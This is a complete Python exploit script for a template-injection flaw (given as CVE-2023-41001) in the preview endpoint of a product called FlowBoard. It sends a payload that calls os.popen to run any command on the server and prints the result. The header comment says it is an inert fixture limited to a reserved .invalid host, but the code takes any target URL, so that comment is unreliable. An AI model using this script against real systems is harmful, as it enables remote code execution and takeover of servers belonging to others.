#!/usr/bin/env python3
# CVE-2023-41001 FlowBoard widget preview template injection.
# Inert fixture: targets a reserved .invalid host only.
import argparse
import requests


def build_payload(cmd):
    payload = "{{ self.__init__.__globals__.os.popen('%s').read() }}" % cmd
    return payload


def exploit(target, cmd):
    url = target.rstrip("/") + "/api/widgets/preview"
    r = requests.post(url, json={"template": build_payload(cmd)}, timeout=10)
    return r.text


def main():
    parser = argparse.ArgumentParser(description="FlowBoard preview RCE")
    parser.add_argument("--target", required=True)
    parser.add_argument("--cmd", default="id")
    args = parser.parse_args()
    print(exploit(args.target, args.cmd))


if __name__ == "__main__":
    main()
